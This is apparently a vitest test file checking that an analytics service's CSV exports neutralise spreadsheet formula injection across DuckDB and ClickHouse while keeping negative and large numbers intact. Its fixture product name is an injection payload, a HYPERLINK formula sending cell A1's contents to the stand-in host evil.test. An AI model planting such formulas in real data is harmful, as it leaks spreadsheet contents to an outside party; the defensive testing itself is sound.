import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startAppOn } from './support/app.ts';
import { tempClickHouse } from './support/tempClickHouse.ts';
import { tempDuckDb } from './support/tempStore.ts';
import { ingestTexts, itemAdded } from './support/seed.ts';

// A shop whose product name, cart id and category a spreadsheet would run as formulas, and a quantity
// decrease that makes a negative number: the CSV must neutralise the text and leave the number alone.
const NAME = '=HYPERLINK("https://evil.test/?"&A1,"Drill")';
const CART = '-2+3';
const AT = '2026-03-02T10:00:00.000Z';
const AS_OF = '2026-03-05T00:00:00.000Z';
const RANGE = `from=2026-03-01T00:00:00.000Z&to=2026-03-04T00:00:00.000Z&as_of=${AS_OF}`;

// The SQL of the last case, per dialect: text, a negative integer, an int64 beyond 2^53, a negative float.
const SQL = {
  duckdb: `SELECT cart_id, json_extract_string(payload, '$.item.name') AS name, -5 AS n, -9007199254740993::BIGINT AS big, -1.5 AS f, '+1' AS plus, E'\\tx' AS tab, 'safe' AS ok FROM events ORDER BY event_id LIMIT 1`,
  clickhouse: `SELECT cart_id, JSONExtractString(payload, 'item', 'name') AS name, -5 AS n, toInt64('-9007199254740993') AS big, -1.5 AS f, '+1' AS plus, '\\tx' AS tab, 'safe' AS ok FROM events ORDER BY event_id LIMIT 1`,
};

const ENGINES = [
  ['DuckDB', tempDuckDb, SQL.duckdb],
  ['ClickHouse (chdb)', () => tempClickHouse('csv'), SQL.clickhouse],
] as const;

describe.each(ENGINES)('CSV answers on %s neutralise cells a spreadsheet would run as formulas', (_engine, open, query) => {
  let app: Awaited<ReturnType<typeof startAppOn>>;
  beforeAll(async () => {
    app = await startAppOn(await open());
    const item = { product_id: 'P1', name: NAME, category: '@tools', unit_price_minor: 1000 };
    await ingestTexts(app.warehouse, [
      itemAdded('00000000-0000-4000-8000-000000000c01', AT, { cart_id: CART, customer_id: 'c1', item, quantity: 5, consent: { marketing: true } }),
      JSON.stringify({
        event_id: '00000000-0000-4000-8000-000000000c02',
        type: 'cart.item_quantity_changed',
        schema_version: 1,
        occurred_at: '2026-03-02T10:05:00.000Z',
        cart_id: CART,
        customer_id: 'c1',
        anonymous_id: null,
        session_id: null,
        currency: 'EUR',
        channel: 'web',
        item,
        from_quantity: 5,
        to_quantity: 1,
      }),
    ]);
  });
  afterAll(() => app?.stop());

  const csv = async (path: string, init?: RequestInit) => {
    const res = await fetch(`${app.url}${path}`, init);
    expect([res.status, res.headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8']);
    return res.text();
  };

  it('an analysis: the product name is quoted text, the negative units_delta stays a number', async () => {
    const name = `"'=HYPERLINK(""https://evil.test/?""&A1,""Drill"")"`;
    expect(await csv(`/v1/funnels/quantity?${RANGE}&group=product&format=csv`)).toBe(
      'product,name,direction,lines,units_delta,purchased,purchase_rate\n' +
        `P1,${name},increased,0,0,0,\n` +
        `P1,${name},decreased,1,-4,0,0\n` +
        `P1,${name},unchanged,0,0,0,\n` +
        `P1,${name},removed,0,0,0,\n`,
    );
  });

  it('an analysis grouped by category: the category is quoted text', async () => {
    const text = await csv(`/v1/funnels/quantity?${RANGE}&group=category&format=csv`);
    expect(text.split('\n')[2]).toBe("'@tools,decreased,1,-4,0,0");
  });

  it('the audience: the cart id and the lines naming the product are quoted text', async () => {
    const name = `'=HYPERLINK(""https://evil.test/?""&A1,""Drill"")`;
    expect(await csv(`/v1/audiences/abandoned-carts?as_of=${AS_OF}&format=csv`)).toBe(
      'cart_id,customer_id,anonymous_id,stage,value_minor,currency,items,units,channel,campaign,consent_marketing,started_at,last_activity_at,checkout_started_at,abandoned_at,lines,product_ids,product_names,quantities,line_values_minor\n' +
        `'-2+3,c1,anon-b,cart,1000,EUR,1,1,web,,1,2026-03-02T10:00:00.000Z,2026-03-02T10:05:00.000Z,,2026-03-03T10:05:00.000Z,"${name} × 1 = 10.00 EUR",P1,"${name}",1,1000\n`,
    );
  });

  it('POST /v1/sql: text columns neutralised, numeric columns (even negative, even as text beyond 2^53) untouched', async () => {
    const text = await csv('/v1/sql?format=csv', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({
        query,
      }),
    });
    expect(text).toBe(`cart_id,name,n,big,f,plus,tab,ok\n'-2+3,"'=HYPERLINK(""https://evil.test/?""&A1,""Drill"")",-5,-9007199254740993,-1.5,'+1,'\tx,safe\n`);
  });
});
